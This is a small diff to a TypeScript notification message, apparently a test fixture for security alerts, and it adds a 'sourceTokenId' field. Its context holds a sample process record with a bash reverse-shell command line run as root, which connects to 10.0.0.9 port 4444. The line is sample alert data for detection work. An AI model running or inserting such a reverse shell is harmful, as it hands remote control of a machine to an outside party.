@@ -27,6 +27,7 @@ const message: NotificationMessage = {
       process: { name: "bash", executable: "/bin/bash", commandLine: "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1" },
       user: "root",
       uploadId: null,
+      sourceTokenId: null,
     },
   ],
 };
